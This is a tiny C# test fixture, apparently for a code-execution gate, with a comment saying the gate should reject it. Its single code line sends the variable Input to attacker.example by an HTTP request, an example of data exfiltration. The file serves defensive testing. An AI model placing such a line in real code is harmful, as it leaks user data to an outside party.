// class: network
// expected: rejected
// why: http exfiltration; the gate refuses it (COC0003 or a gate check) before anything runs.
await new System.Net.Http.HttpClient().GetStringAsync("http://attacker.example/?d=" + Input);
